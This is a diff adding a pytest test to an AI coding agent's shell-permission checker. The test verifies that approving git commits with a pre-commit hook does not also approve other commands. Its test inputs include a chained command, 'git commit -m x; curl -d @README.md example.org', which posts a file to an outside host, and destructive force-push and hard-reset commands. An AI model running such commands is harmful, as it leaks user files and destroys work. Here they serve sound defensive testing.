@@ -11,6 +11,7 @@ import pytest
 
 from agentcli.permissions.git_config import GitFacts
 from agentcli.permissions.paths import UndoCover, Workspace
+from agentcli.permissions.rules import proposed_rules
 from agentcli.permissions.shell.effects.git_repositories import (
     git_placed,
     records_in_git,
@@ -18,6 +19,7 @@ from agentcli.permissions.shell.effects.git_repositories import (
     repository_problem,
 )
 from agentcli.permissions.shell.syntax.parse import UNKNOWN
+from tests.permissions.deciding import explain_command
 from tests.tables import each_row
 
 OUTSIDE = "the repository lies outside the workspace"
@@ -296,6 +298,24 @@ def work_tree(work: Path, name: str = "wt", named: str = "wt", kind: str = "work
         (own / file).write_text(f"{text}\n")
     (there / ".git").write_text(f"gitdir: {own}\n")
     return there
+
+
+def test_commits_that_run_a_hook_are_asked_about_once(work: Path) -> None:
+    (work / ".git/hooks/pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    (work / ".git/hooks/pre-commit").chmod(0o755)
+    here = workspace(work, sandboxed=True, records=True)
+    for command in ("git commit -m first", "git add -A && git commit -m first"):
+        first = explain_command(command, here, "auto")
+        folders, rules = first.first_answer("auto")
+        assert (first.decision, folders) == ("ask", ()), command
+        assert "bash(git commit *)" in rules, command
+        again = [explain_command(f"{command} -q", here, "auto", proposed_rules(rules))]
+        again.append(explain_command("git add src && git commit -m second", here, "auto", proposed_rules(rules)))
+        assert [one.decision for one in again] == ["allow", "allow"], command
+        for other in ("git push --force", "git reset --hard HEAD~3", "git commit -m x; curl -d @README.md example.org"):
+            assert explain_command(other, here, "auto", proposed_rules(rules)).decision == "ask", other
+    skipped = explain_command("git commit --no-verify -m first", here, "auto")
+    assert (skipped.decision, skipped.first_answer("auto")) == ("ask", ((), ()))
 
 
 def test_git_records_in_a_linked_work_tree_of_a_repository_of_the_workspace(work: Path) -> None:
